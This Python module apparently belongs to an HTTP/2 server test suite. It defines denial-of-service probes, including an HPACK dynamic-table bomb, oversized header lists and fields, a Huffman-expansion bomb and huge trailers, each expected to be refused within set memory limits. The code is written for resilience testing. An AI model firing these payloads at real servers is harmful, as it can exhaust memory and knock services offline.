"""Header lists that cost the server far more than the client."""

from suite import ANY_END, REFUSED, attack, f
from h2peer import hpack_bytes as h


def in_frames(stream, block):
    """A header block in frames of 16 KiB, with the end of the stream."""
    pieces = [block[at:at + 16384] for at in range(0, len(block), 16384)]
    frames = [f.headers(stream, pieces[0], end_stream=True, end_headers=len(pieces) == 1)]
    frames += [f.continuation(stream, piece, end_headers=False) for piece in pieces[1:-1]]
    return frames + ([f.continuation(stream, pieces[-1])] if len(pieces) > 1 else [])


@attack(ends=ANY_END + (REFUSED,), within=5, memory_mib=24)
def hpack_bomb(target):
    """One entry of 4,000 bytes in the dynamic table, then ten header blocks that name it 16,000 times each: 64 MB of
    fields in 16 KiB."""
    with target.connect() as peer:
        base = h.block(peer.dialect.fields())
        peer.send(f.headers(1, base + h.literal_indexed("x-bomb", "b" * 4000), end_stream=True))
        peer.response(1)
        outcome = REFUSED
        for stream in range(3, 23, 2):
            peer.send(*in_frames(stream, base + h.indexed(62) * (16384 - len(base))))
            outcome = peer.verdict_of(stream)
            if outcome != REFUSED:
                break
        return outcome


@attack(ends=ANY_END + (REFUSED,), within=5, memory_mib=24)
def huge_header_list(target):
    """A header list of 1 MiB, sent in full."""
    with target.connect() as peer:
        fields = b"".join(h.literal(f"x-{number}", "v" * 1000) for number in range(1000))
        peer.send(*in_frames(1, h.block(peer.dialect.fields()) + fields), log=False)
        return peer.verdict_of(1)


@attack(ends=ANY_END + (REFUSED,), within=5, memory_mib=24)
def huge_field(target):
    """One field of 1 MiB."""
    with target.connect() as peer:
        peer.send(*in_frames(1, h.block(peer.dialect.fields()) + h.literal("x-huge", "v" * (1 << 20))), log=False)
        return peer.verdict_of(1)


@attack(ends=ANY_END + (REFUSED,), within=5, memory_mib=24)
def many_fields(target):
    """50,000 fields of a few bytes each: by RFC 9113's count (name, value and 32) far above any limit."""
    with target.connect() as peer:
        peer.send(*in_frames(1, h.block(peer.dialect.fields()) + h.literal("a", "") * 50_000), log=False)
        return peer.verdict_of(1)


@attack(ends=ANY_END + (REFUSED,), within=5, memory_mib=24)
def huffman_bomb(target):
    """A Huffman string of 15 KiB that doubles when it is read, thirty times on four fields."""
    with target.connect() as peer:
        outcome = REFUSED
        for stream in range(1, 60, 2):
            peer.send(*in_frames(stream, h.block(peer.dialect.fields())
                                 + h.literal("x-bomb", "0" * 24_000, huffman=True) * 4), log=False)
            outcome = peer.verdict_of(stream)
            if outcome != REFUSED:
                break
        return outcome


@attack(ends=ANY_END + (REFUSED,), within=5, memory_mib=24)
def huge_trailers(target):
    """An ordinary request with 1 MiB of trailers."""
    with target.connect() as peer:
        fields = b"".join(h.literal(f"x-{number}", "v" * 1000) for number in range(1000))
        peer.send(f.headers(1, peer.block()), f.data(1, peer.dialect.body))
        peer.send(*in_frames(1, fields), log=False)
        return peer.verdict_of(1)
